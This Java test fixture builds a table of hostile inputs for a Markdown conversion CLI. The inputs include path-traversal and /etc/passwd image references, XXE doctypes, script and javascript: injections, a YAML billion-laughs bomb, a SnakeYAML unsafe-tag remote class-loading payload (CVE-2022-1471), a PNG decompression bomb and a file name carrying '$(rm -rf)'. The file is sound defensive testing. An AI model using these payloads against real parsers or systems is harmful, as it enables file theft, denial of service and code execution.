package dev.tsuzuri.cli;

import dev.tsuzuri.read.markdown.MarkdownReader;
import static dev.tsuzuri.cli.HostileCase.Outcome.CONVERTS;
import static dev.tsuzuri.cli.HostileCase.Outcome.EITHER;
import static dev.tsuzuri.cli.HostileCase.Outcome.FAILS;
import static dev.tsuzuri.cli.HostileCase.of;
import static dev.tsuzuri.cli.HostileEnv.bytes;
import static dev.tsuzuri.cli.HostileEnv.note;
import static dev.tsuzuri.cli.HostileEnv.png;
import static dev.tsuzuri.cli.HostileEnv.write;

import dev.tsuzuri.read.NoteReader;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.stream.Stream;

/** The table of hostile inputs, by the categories of issue 7. */
final class HostileCases {
  static final String ALL = "json,pdf,docx,pptx";
  private static final String FM = "---\ntitle: 敵対的な入力\n---\n";

  private HostileCases() {}

  static Stream<HostileCase> all() {
    List<HostileCase> all = new ArrayList<>();
    all.addAll(resources());
    all.addAll(rawHtml());
    all.addAll(text());
    all.addAll(limits());
    all.addAll(pathological());
    all.addAll(malformed());
    all.addAll(faults());
    return all.stream();
  }

  static List<HostileCase> resources() {
    return List.of(
        of("resources", "absolute path to an image outside", ALL, CONVERTS, "secret.png",
            (d, e) -> note(d, FM + "## 図\n\n![秘密](" + e.secretImage() + ")\n")).withoutImages(),
        of("resources", ".. escape", ALL, CONVERTS, "secret.png",
            (d, e) -> note(d, FM + "![秘密](../outside/secret.png)\n")).withoutImages(),
        of("resources", "percent-encoded .. escape", "json,docx", CONVERTS, "secret.png",
            (d, e) -> note(d, FM + "![秘密](..%2Foutside%2Fsecret.png)\n")).withoutImages(),
        of("resources", "symlinked image leading outside", ALL, CONVERTS, "refused",
            (d, e) -> {
              Files.createSymbolicLink(d.resolve("pic.png"), e.secretImage());
              return note(d, FM + "![秘密](pic.png)\n");
            }).withoutImages(),
        of("resources", "symlinked folder leading outside", "json,pptx", CONVERTS, "refused",
            (d, e) -> {
              Files.createSymbolicLink(d.resolve("img"), e.outside());
              return note(d, FM + "![秘密](img/secret.png)\n");
            }).withoutImages(),
        of("resources", "file: URL", "json,pdf,docx", CONVERTS, null,
            (d, e) -> note(d, FM + "![秘密](" + e.secretImage().toUri() + ")\n<img src=\""
                + e.secretImage().toUri() + "\">\n")).withoutImages(),
        of("resources", "/etc/passwd as an image", "json,docx", CONVERTS, "passwd",
            (d, e) -> note(d, FM + "![x](/etc/passwd)\n![y](../../../../../../etc/passwd)\n"))
            .withoutImages(),
        of("resources", "figure shortcode escaping", "json,pdf", CONVERTS, "secret.png",
            (d, e) -> note(d, FM + "{{< figure src=\"../outside/secret.png\" title=\"図\" >}}\n"))
            .withoutImages(),
        of("resources", "remote image without permission", ALL, CONVERTS, "remote",
            (d, e) -> note(d, FM + "## 遠隔\n\n![遠い](" + e.url("x.png") + ")\n\n- 項目 ![b]("
                + e.url("b.png") + ")\n")).withoutImages(),
        of("resources", "remote links and autolinks", ALL, CONVERTS, null,
            (d, e) -> note(d, FM + "[リンク](" + e.url("page") + ") <" + e.url("auto")
                + "> " + e.url("bare") + "\n\n[ref]: " + e.url("ref") + "\n")),
        of("resources", "protocol-relative and data: images", "json,pdf,docx", CONVERTS, null,
            (d, e) -> note(d, FM + "![a](//127.0.0.1:" + e.port() + "/p.png)\n![b](data:image/"
                + "png;base64,iVBORw0KGgo=)\n")).withoutImages(),
        of("resources", "remote image in a figure shortcode", "json,pdf,pptx", CONVERTS, null,
            (d, e) -> note(d, FM + "{{< figure src=\"" + e.url("f.png") + "\" >}}\n"))
            .withoutImages(),
        of("resources", "image that is a folder", "json,docx", CONVERTS, null,
            (d, e) -> {
              Files.createDirectories(d.resolve("dir.png"));
              return note(d, FM + "![d](dir.png) ![e](.)\n");
            }).withoutImages(),
        of("resources", "resource path lets an image in (control)", "docx,pptx", CONVERTS, null,
            (d, e) -> {
              Path res = Files.createDirectories(d.resolve("static"));
              Files.write(res.resolve("ok.png"), png(20, 10));
              Path notes = Files.createDirectories(d.resolve("notes"));
              write(notes.resolve("note.md"), FM + "![ok](ok.png)\n");
              return List.of(notes.resolve("note.md").toString(), "--resource-path",
                  res.toString());
            }));
  }

  static List<HostileCase> rawHtml() {
    String xxe = "<!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">"
        + "<!ENTITY net SYSTEM \"%s\">]>";
    return List.of(
        of("html", "script blocks and inline script", ALL, CONVERTS, null,
            (d, e) -> note(d, FM + "<script>fetch('" + e.url("s") + "')</script>\n\n本文 "
                + "<script src=\"" + e.url("s.js") + "\"></script> 続き\n")),
        of("html", "iframe, object, embed, form", ALL, CONVERTS, null,
            (d, e) -> note(d, FM + "<iframe src=\"" + e.url("i") + "\"></iframe>\n\n<object data=\""
                + e.url("o") + "\"></object><embed src=\"" + e.url("e") + "\">\n\n<form action=\""
                + e.url("f") + "\"><input name=a></form>\n")),
        of("html", "XXE doctype in a note", ALL, CONVERTS, null,
            (d, e) -> note(d, FM + String.format(xxe, e.url("dtd")) + "\n<x>&xxe;&net;</x>\n\n"
                + "段落 &xxe; と &net;\n")),
        of("html", "inline SVG with entities and external images", "json,pdf,docx", CONVERTS,
            null, (d, e) -> note(d, FM + "<svg xmlns=\"http://www.w3.org/2000/svg\">"
                + String.format(xxe, e.url("dtd")) + "<text>&xxe;</text><image href=\""
                + e.url("svg.png") + "\"/><image href=\"" + e.secretImage().toUri()
                + "\"/></svg>\n")).withoutImages(),
        of("html", "SVG file with XXE as an image", ALL, CONVERTS, "evil.svg",
            (d, e) -> {
              write(d.resolve("evil.svg"), "<?xml version=\"1.0\"?>" + String.format(xxe,
                  e.url("dtd")) + "<svg xmlns=\"http://www.w3.org/2000/svg\"><text>&xxe;</text>"
                  + "</svg>");
              return note(d, FM + "![svg](evil.svg)\n");
            }).withoutImages(),
        of("html", "event handlers, javascript: and styles with url()", ALL, CONVERTS, null,
            (d, e) -> note(d, FM + "<p onclick=\"alert(1)\" style=\"background:url(" + e.url("bg")
                + ")\">押す</p>\n\n[js](javascript:alert(1)) <a href=\"javascript:alert(2)\">a</a>"
                + "\n\n<style>@import url(" + e.url("c.css") + "); body{background:url("
                + e.url("b.png") + ")}</style>\n\n<link rel=stylesheet href=\"" + e.url("l.css")
                + "\">\n")),
        of("html", "img tags: remote, outside, srcset", ALL, CONVERTS, null,
            (d, e) -> note(d, FM + "<img src=\"" + e.url("a.png") + "\" srcset=\"" + e.url("b.png")
                + " 2x\">\n\n<img src=\"../outside/secret.png\">\n<img src=\"" + e.secretImage()
                + "\">\n")).withoutImages(),
        of("html", "unbalanced tags and unclosed comment", ALL, CONVERTS, null,
            (d, e) -> note(d, FM + "<div><span><table><tr><td>表\n\n</div></div></i>\n\n"
                + "<!-- 閉じないコメント\n\n## 見出し\n")),
        of("html", "processing instructions, CDATA and XML declaration", "json,pdf,docx",
            CONVERTS, null, (d, e) -> note(d, FM + "<?xml version=\"1.0\"?>\n<?php system('id');"
                + " ?>\n\n<![CDATA[ <x> ]]>\n\n本文 <?pi x?> です\n")),
        of("html", "100,000 nested HTML elements of every kind", ALL, CONVERTS, null,
            (d, e) -> note(d, FM + "## 深い\n\n" + "<div><blockquote><ul><li><table><tr><td>"
                .repeat(15_000) + "中身\n")),
        of("html", "a megabyte of HTML attributes", ALL, CONVERTS, null,
            (d, e) -> note(d, FM + "<p title=\"" + "x".repeat(1 << 20) + "\">段落</p>\n\n"
                + "<img src=\"a.png\" alt=\"" + "y".repeat(1 << 20) + "\">\n")),
        of("html", "everything unclosed, and details left open", ALL, CONVERTS, null,
            (d, e) -> note(d, FM + "<p><b><i><u><table><tr><td><ul><li><details><summary>s"
                .repeat(5_000) + "\n\n本文\n\n" + "<details>\n\n中\n\n".repeat(5_000))),
        // 50,000 lines once read: a deck refuses that many slides with a clear message
        of("html", "a 2M-character line of HTML", "json,docx,pptx", EITHER, null,
            (d, e) -> note(d, FM + "<div>" + "a<b>c</b><br><span>d</span>&amp;<!-- c -->"
                .repeat(50_000) + "</div>\n")),
        of("html", "entity expansion in Markdown text", "json,docx", CONVERTS, null,
            (d, e) -> note(d, FM + "&#0; &#xD800; &#x110000; &#x1; &nbsp;&amp;&lt;"
                + "&#99999999999; &ThisIsNotAnEntity;\n")));
  }

  static List<HostileCase> text() {
    String jp = FM.replace("---\n", "---\n") + "## 第一回 サーバーレス\n\n- 速い\n  - とても速い\n";
    return List.of(
        of("text", "UTF-8 with BOM", ALL, CONVERTS, null,
            (d, e) -> note(d, concat(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF},
                jp.getBytes(StandardCharsets.UTF_8)))),
        of("text", "UTF-16LE with BOM", "json,docx", CONVERTS, null,
            (d, e) -> note(d, concat(new byte[] {(byte) 0xFF, (byte) 0xFE},
                bytes(jp, "UTF-16LE")))),
        of("text", "UTF-16BE with BOM", "json,pptx", CONVERTS, null,
            (d, e) -> note(d, concat(new byte[] {(byte) 0xFE, (byte) 0xFF},
                bytes(jp, "UTF-16BE")))),
        of("text", "CRLF line ends", ALL, CONVERTS, null,
            (d, e) -> note(d, jp.replace("\n", "\r\n"))),
        of("text", "lone CR line ends", "json,docx", CONVERTS, null,
            (d, e) -> note(d, jp.replace("\n", "\r"))),
        of("text", "Shift_JIS refused with a hint", ALL, FAILS, "--encoding Shift_JIS",
            (d, e) -> note(d, bytes(jp, "Shift_JIS"))),
        of("text", "EUC-JP refused with a hint", "json", FAILS, "EUC-JP",
            (d, e) -> note(d, bytes(jp, "EUC-JP"))),
        of("text", "Shift_JIS with --encoding", "json,docx", CONVERTS, null,
            (d, e) -> List.of(note(d, bytes(jp, "Shift_JIS")).get(0), "--encoding",
                "Shift_JIS")),
        of("text", "invalid UTF-8 reported with its position", "json", FAILS, "byte 40",
            (d, e) -> {
              byte[] b = (FM + "本文").getBytes(StandardCharsets.UTF_8);
              byte[] bad = concat(java.util.Arrays.copyOf(b, 40), new byte[] {(byte) 0xC3, 'x'});
              return note(d, concat(bad, "\n続き\n".getBytes(StandardCharsets.UTF_8)));
            }),
        of("text", "UTF-16 with a lone surrogate", "json", FAILS, "UTF-16",
            (d, e) -> note(d, concat(new byte[] {(byte) 0xFF, (byte) 0xFE},
                bytes("# 題\n\n", "UTF-16LE"), new byte[] {0x00, (byte) 0xD8, 'a', 0}))),
        of("text", "XML-forbidden control characters", ALL, CONVERTS, null,
            (d, e) -> {
              StringBuilder s = new StringBuilder(FM + "## 制御文字\n\n");
              for (char c = 1; c < 0x20; c++) {
                if (c != '\n' && c != '\r') {
                  s.append("a").append(c);
                }
              }
              s.append(" \uFFFE \uFFFF \u0085 \u2028 表\n\n- 項目\u000B\u000C\n\n| a\u0007 | b |\n"
                  + "|---|---|\n| \u001B[31m | \u0008 |\n");
              return note(d, s.toString());
            }),
        of("text", "NUL bytes in the text", ALL, EITHER, null,
            (d, e) -> note(d, FM + "本文\0です\n\n## 見\0出し\n\n- \0\0\0\n")),
        of("text", "emoji, ZWJ sequences, combining marks, IVS kept", ALL, CONVERTS, null,
            (d, e) -> note(d, FM + "## 👨‍👩‍👧‍👦 家族\n\n- 葛\uDB40\uDD00城 と 邉\uDB40\uDD01\n- "
                + "e\u0301 か\u3099 🇯🇵 🏳️‍🌈\n- \u202Eright-to-left\u202C 𠮷野家\n"))
            .keeping("👨‍👩‍👧‍👦", "葛\uDB40\uDD00城", "邉\uDB40\uDD01", "e\u0301", "か\u3099", "🇯🇵",
                "𠮷野家"),
        of("text", "bidi and zero-width characters in headings", "json,pdf,pptx", CONVERTS, null,
            (d, e) -> note(d, FM + "## \u200B\u200D\u2060\uFEFF見出し\u202E\n\nabc\u00AD\n")));
  }

  static List<HostileCase> limits() {
    return List.of(
        of("limits", "50 MB note", "json", FAILS, "larger than the limit",
            (d, e) -> {
              Path p = d.resolve("note.md");
              byte[] line = "- 五十メガバイトのノートの一行です。繰り返し。\n"
                  .getBytes(StandardCharsets.UTF_8);
              try (var out = new java.io.BufferedOutputStream(Files.newOutputStream(p), 1 << 20)) {
                out.write(FM.getBytes(StandardCharsets.UTF_8));
                for (long n = 0; n < 50L * 1024 * 1024; n += line.length) {
                  out.write(line);
                }
              }
              return List.of(p.toString());
            }),
        of("limits", "50 MB note with a raised limit", "json", EITHER, null,
            (d, e) -> {
              Path p = d.resolve("note.md");
              byte[] para = ("段落です。" + "あ".repeat(300) + "\n\n").getBytes(StandardCharsets.UTF_8);
              try (var out = new java.io.BufferedOutputStream(Files.newOutputStream(p), 1 << 20)) {
                for (long n = 0; n < 50L * 1024 * 1024; n += para.length) {
                  out.write(para);
                }
              }
              return List.of(p.toString(), "--max-input-size", "64m");
            }),
        of("limits", "5 MB single line", "json,docx", EITHER, null,
            (d, e) -> note(d, FM + "長い行 " + ("seminar notes without a line break, *once* in a"
                + " while **marked** or `coded`; " + "x".repeat(40)).repeat(5 * 1024 * 1024 / 120)
                + "\n")),
        of("limits", "5 MB single line of CJK without spaces", "json,docx", EITHER, null,
            (d, e) -> note(d, FM + "本".repeat(5 * 1024 * 1024 / 3) + "\n")),
        of("limits", "100,000 headings", "json", EITHER, null,
            (d, e) -> {
              StringBuilder s = new StringBuilder(FM);
              for (int i = 0; i < 100_000; i++) {
                s.append(i % 2 == 0 ? "## 回 " : "### 節 ").append(i).append('\n');
              }
              return note(d, s.toString());
            }),
        of("limits", "10,000-column table", "json,docx,pptx", EITHER, null,
            (d, e) -> {
              String row = "|" + "セル|".repeat(10_000) + "\n";
              return note(d, FM + row + "|" + "---|".repeat(10_000) + "\n" + row + row);
            }),
        of("limits", "100,000 rows table", "json", FAILS, "blank lines",
            (d, e) -> note(d, FM + "| a | b |\n|---|---|\n" + "| 行 | 値 |\n".repeat(100_000))),
        of("limits", "100,000 levels of nested lists", "json,docx", FAILS, "nested",
            (d, e) -> note(d, FM + "- ".repeat(100_000) + "深い\n")),
        of("limits", "2,000 levels of lists, one per line", "json", FAILS, "nested",
            (d, e) -> {
              StringBuilder s = new StringBuilder(FM);
              for (int i = 0; i < 2_000; i++) {
                s.append("  ".repeat(i)).append("- l\n");
              }
              return note(d, s.toString());
            }),
        of("limits", "100,000 levels of ordered lists", "json", FAILS, "nested",
            (d, e) -> note(d, FM + "1. ".repeat(100_000) + "x\n")),
        of("limits", "100,000 levels of nested quotes", "json,pdf", FAILS, "nested",
            (d, e) -> note(d, FM + ">".repeat(100_000) + " 引用\n")),
        of("limits", "100,000 levels of quotes and lists mixed", "json", FAILS, "nested",
            (d, e) -> note(d, FM + "> - ".repeat(100_000) + "x\n")),
        of("limits", "60 levels of lists, under the limit", ALL, CONVERTS, null,
            (d, e) -> {
              StringBuilder s = new StringBuilder(FM);
              for (int i = 0; i < 60; i++) {
                s.append("  ".repeat(i)).append("- 深さ").append(i).append('\n');
              }
              return note(d, s.toString());
            }),
        of("limits", "huge front matter", "json", FAILS, "front matter",
            (d, e) -> note(d, "---\ntitle: 大きい\ntags:\n" + "  - タグ\n".repeat(300_000)
                + "---\n本文\n")),
        of("limits", "YAML billion laughs", "json,pdf", EITHER, null,
            (d, e) -> {
              StringBuilder s = new StringBuilder("---\na: &a [\"lol\",\"lol\",\"lol\",\"lol\"]\n");
              char prev = 'a';
              for (char c = 'b'; c <= 'z'; c++) {
                s.append(c).append(": &").append(c).append(" [");
                for (int i = 0; i < 9; i++) {
                  s.append(i == 0 ? "" : ",").append('*').append(prev);
                }
                s.append("]\n");
                prev = c;
              }
              return note(d, s.append("title: *z\n---\n本文\n").toString());
            }),
        of("limits", "YAML deep nesting", "json", EITHER, null,
            (d, e) -> note(d, "---\ntitle: " + "[".repeat(50_000) + "]".repeat(50_000)
                + "\n---\n本文\n")),
        of("limits", "YAML duplicate keys warned", "json,docx", CONVERTS, "duplicate",
            (d, e) -> note(d, "---\ntitle: 一\ntitle: 二\ntags: [a]\ntags: [b]\n---\n本文\n")),
        of("limits", "YAML unsafe tags (CVE-2022-1471)", "json", EITHER, null,
            (d, e) -> note(d, "---\ntitle: !!javax.script.ScriptEngineManager [!!java.net."
                + "URLClassLoader [[!!java.net.URL [\"" + e.url("yaml") + "\"]]]]\n---\n本文\n")),
        of("limits", "TOML deep nesting and huge table", "json", EITHER, null,
            (d, e) -> note(d, "+++\ntitle = " + "[".repeat(20_000) + "]".repeat(20_000) + "\n"
                + "x = 1\n".repeat(3) + "+++\n本文\n")),
        of("limits", "image decompression bomb", ALL, CONVERTS, "pixels",
            (d, e) -> {
              Files.write(d.resolve("bomb.png"), HostileEnv.pngBomb(100_000, 100_000));
              return note(d, FM + "![爆弾](bomb.png)\n");
            }).withoutImages(),
        of("limits", "10,000 footnotes", "json,docx", EITHER, null,
            (d, e) -> {
              StringBuilder s = new StringBuilder(FM);
              for (int i = 0; i < 10_000; i++) {
                s.append("本文[^n").append(i).append("]。\n\n");
              }
              for (int i = 0; i < 10_000; i++) {
                s.append("[^n").append(i).append("]: 注").append(i).append('\n');
              }
              return note(d, s.toString());
            }));
  }

  static List<HostileCase> pathological() {
    return List.of(
        md("deep emphasis nesting", "*a **a ".repeat(30_000) + "b" + " a** a*".repeat(30_000)),
        md("long run of [", "[".repeat(200_000) + "a"),
        md("long run of *", "*".repeat(200_000) + "a"),
        md("long run of backticks", backticks(800)).failing("backticks"),
        md("alternating *a_ runs", "*a_".repeat(100_000)),
        md("nested brackets", "[".repeat(50_000) + "a" + "]".repeat(50_000)),
        md("unclosed links", "[a](<b".repeat(50_000)),
        md("unclosed angle links and autolinks", "<a".repeat(50_000) + " <http:".repeat(20_000)),
        md("nested images", "![".repeat(50_000) + "a](b)".repeat(50_000)),
        md("many emphasis openers and closers", "a**b ".repeat(50_000) + "c__d ".repeat(50_000)),
        md("entity and backslash runs", "&#".repeat(50_000) + "\\".repeat(100_000)),
        md("entities joined into one run of text", "x&amp;".repeat(50_000) + "www.example.com "
            + "\\|".repeat(50_000) + " https://example.com/"),
        md("many link reference definitions", refs(50_000)),
        md("nested inline HTML", "<em>".repeat(50_000) + "x" + "</em>".repeat(50_000)),
        md("deep strikethrough and links", "~~[".repeat(30_000) + "x" + "](y)~~".repeat(30_000)),
        md("tables with many pipes in one cell", "| a |\n|---|\n|" + "\\|".repeat(200_000)
            + "|\n"),
        md("many headings markers", "#".repeat(200_000) + " x\n" + "=\n".repeat(50_000)));
  }

  static List<HostileCase> malformed() {
    return List.of(
        of("malformed", "empty file", ALL, EITHER, null, (d, e) -> note(d, "")),
        of("malformed", "whitespace only", ALL, EITHER, null,
            (d, e) -> note(d, " \n\t\n\u3000\n   \n")),
        of("malformed", "binary garbage", "json,docx", FAILS, "byte",
            (d, e) -> {
              byte[] b = new byte[200_000];
              new Random(7).nextBytes(b);
              b[0] = (byte) 0x80;
              return note(d, b);
            }),
        of("malformed", "only NUL bytes", "json,pdf", EITHER, null,
            (d, e) -> note(d, new byte[100_000])),
        of("malformed", "a PNG named .md", "json", FAILS, null,
            (d, e) -> note(d, png(50, 50))),
        of("malformed", "unclosed YAML front matter", ALL, EITHER, null,
            (d, e) -> note(d, "---\ntitle: 閉じない\ntags: [a, b]\n\n## 本文\n- 項目\n")),
        of("malformed", "unclosed TOML front matter", "json", EITHER, null,
            (d, e) -> note(d, "+++\ntitle = \"閉じない\"\n\n本文\n")),
        of("malformed", "malformed YAML", "json", FAILS, "front matter",
            (d, e) -> note(d, "---\ntitle: [閉じない\n  : : :\n---\n本文\n")),
        of("malformed", "unclosed shortcode", ALL, EITHER, null,
            (d, e) -> note(d, FM + "## 図\n\n{{< figure src=\"a.png\" title=\"閉じない\n\n本文\n")),
        of("malformed", "unclosed paired shortcode", "json,docx", EITHER, null,
            (d, e) -> note(d, FM + "{{< highlight go >}}\nfunc main() {}\n\n本文\n")),
        of("malformed", "10,000 nested shortcodes", "json", EITHER, null,
            (d, e) -> note(d, FM + "{{< details >}}".repeat(10_000) + "x"
                + "{{< /details >}}".repeat(10_000) + "\n")),
        of("malformed", "recursive footnotes", ALL, EITHER, null,
            (d, e) -> note(d, FM + "本文[^a]と[^b]。\n\n[^a]: 注a は [^b] を見よ\n[^b]: 注b は [^a]"
                + " を見よ[^b]\n[^c]: 使われない [^c]\n")),
        of("malformed", "a footnote chain 5,000 long", "json,docx", EITHER, null,
            (d, e) -> {
              StringBuilder s = new StringBuilder(FM + "始まり[^f0]\n\n");
              for (int i = 0; i < 5_000; i++) {
                s.append("[^f").append(i).append("]: 次 [^f").append(i + 1).append("]\n");
              }
              return note(d, s.toString());
            }),
        of("malformed", "front matter only", ALL, EITHER, null, (d, e) -> note(d, FM)),
        of("malformed", "odd note file name", "json,pdf", CONVERTS, null,
            (d, e) -> List.of(write(d.resolve("ノート 1; $(rm -rf) 'x'.md"), FM + "本文\n")
                .toString())).naming("ノート 1; $(rm -rf) 'x'.md"),
        of("malformed", "folder with a FIFO and a directory named .md", "json", CONVERTS, null,
            (d, e) -> {
              Path in = Files.createDirectories(d.resolve("content"));
              write(in.resolve("good.md"), FM + "本文\n");
              Files.createDirectories(in.resolve("dir.md"));
              new ProcessBuilder("mkfifo", in.resolve("pipe.md").toString()).start().waitFor();
              return List.of(in.toString());
            }));
  }

  static List<HostileCase> faults() {
    return List.of(
        of("faults", "output folder is a file", "json,pdf", FAILS, null,
            (d, e) -> {
              write(d.resolve("out"), "not a folder");
              return note(d, FM + "本文\n");
            }).naming("out"),
        of("faults", "output folder below a file", "json", FAILS, null,
            (d, e) -> List.of(note(d, FM + "本文\n").get(0), "-o",
                write(d.resolve("blocker"), "x").resolve("sub").toString())).naming("blocker"),
        of("faults", "a note deleted mid-batch", "json,docx", FAILS, "file not found",
            (d, e) -> {
              Path in = Files.createDirectories(d.resolve("content"));
              write(in.resolve("a.md"), FM + "一\n");
              write(in.resolve("b.md"), FM + "二\n");
              return List.of(in.toString(), "-j", "1");
            }).naming("b.md").readingWith(HostileCases::deletingReader),
        of("faults", "missing input", "json", FAILS, null,
            (d, e) -> List.of(d.resolve("nowhere.md").toString())).naming("nowhere.md"),
        of("faults", "corrupt .docx template", "json,docx", FAILS, "broken.docx",
            (d, e) -> List.of(note(d, FM + "本文\n").get(0), "--template",
                zip(d.resolve("broken.docx")).toString())).naming("broken.docx"),
        of("faults", "corrupt .pptx template", "pptx", FAILS, "broken.pptx",
            (d, e) -> List.of(note(d, FM + "本文\n").get(0), "--template",
                zip(d.resolve("broken.pptx")).toString())).naming("broken.pptx"),
        of("faults", "corrupt .html template", "pdf", FAILS, "broken.html",
            (d, e) -> List.of(note(d, FM + "本文\n").get(0), "--template",
                write(d.resolve("broken.html"), "<html><body><main data-tsuzuri=content>"
                    + "<p></div>").toString())).naming("broken.html"),
        of("faults", "garbage stylesheet", "pdf", EITHER, null,
            (d, e) -> List.of(note(d, FM + "本文\n").get(0), "--css",
                write(d.resolve("x.css"), "}}}{{{ @import url(" + e.url("c.css") + "); body{"
                    + "font-size: 99999999px; background: url(" + e.url("b") + ")")
                    .toString())),
        of("faults", "corrupt and truncated images", ALL, CONVERTS, "image",
            (d, e) -> {
              byte[] ok = png(40, 40);
              Files.write(d.resolve("cut.png"), java.util.Arrays.copyOf(ok, ok.length / 2));
              Files.write(d.resolve("junk.jpg"), new byte[] {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF,
                  1, 2, 3});
              Files.write(d.resolve("zero.gif"), new byte[0]);
              return note(d, FM + "![a](cut.png) ![b](junk.jpg) ![c](zero.gif)\n");
            }),
        of("faults", "full disk while writing (test writer)", "flaky,json", FAILS,
            "No space left on device", (d, e) -> note(d, FM + "[[fail:disk]]\n")),
        of("faults", "full disk while writing PDF", "json,pdf-diskfull", FAILS,
            "No space left on device", (d, e) -> note(d, FM + "## 一\n\n- 本文\n")),
        of("faults", "full disk while writing Word", "docx-diskfull", FAILS,
            "No space left on device", (d, e) -> note(d, FM + "## 一\n\n- 本文\n")),
        of("faults", "full disk while writing PowerPoint", "pptx-diskfull", FAILS,
            "No space left on device", (d, e) -> note(d, FM + "## 一\n\n- 本文\n")),
        of("faults", "full disk while writing JSON", "json-diskfull", FAILS,
            "No space left on device", (d, e) -> note(d, FM + "## 一\n\n- 本文\n")));
  }

  private static HostileCase md(String name, String body) {
    return of("markdown", name, "json,docx", EITHER, null, (d, e) -> note(d, FM + body + "\n"));
  }

  private static String backticks(int n) {
    StringBuilder s = new StringBuilder();
    for (int i = 1; i <= n; i++) {
      s.append("e").append("`".repeat(i));
    }
    return s.toString();
  }

  private static String refs(int n) {
    StringBuilder s = new StringBuilder();
    for (int i = 0; i < n; i++) {
      s.append("[r").append(i).append("]: /u").append(i).append('\n');
    }
    for (int i = 0; i < n; i += 7) {
      s.append("[r").append(i).append("] [x][r").append(i).append("] ");
    }
    return s.toString();
  }

  private static Path zip(Path file) throws java.io.IOException {
    ByteArrayOutputStream b = new ByteArrayOutputStream();
    try (var z = new java.util.zip.ZipOutputStream(b)) {
      z.putNextEntry(new java.util.zip.ZipEntry("[Content_Types].xml"));
      z.write("<Types><broken".getBytes(StandardCharsets.UTF_8));
      z.closeEntry();
      z.putNextEntry(new java.util.zip.ZipEntry("word/document.xml"));
      z.write(new byte[] {1, 2, 3});
      z.closeEntry();
    }
    return Files.write(file, b.toByteArray());
  }

  /** The Markdown reader, deleting b.md from the batch while it reads a.md. */
  private static NoteReader deletingReader(Path dir) {
    NoteReader md = MarkdownReader.defaults();
    return (file, warnings) -> {
      if (file.getFileName().toString().equals("a.md")) {
        Files.deleteIfExists(file.resolveSibling("b.md"));
      }
      return md.read(file, warnings);
    };
  }

  static byte[] concat(byte[]... parts) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    for (byte[] p : parts) {
      out.writeBytes(p);
    }
    return out.toByteArray();
  }
}
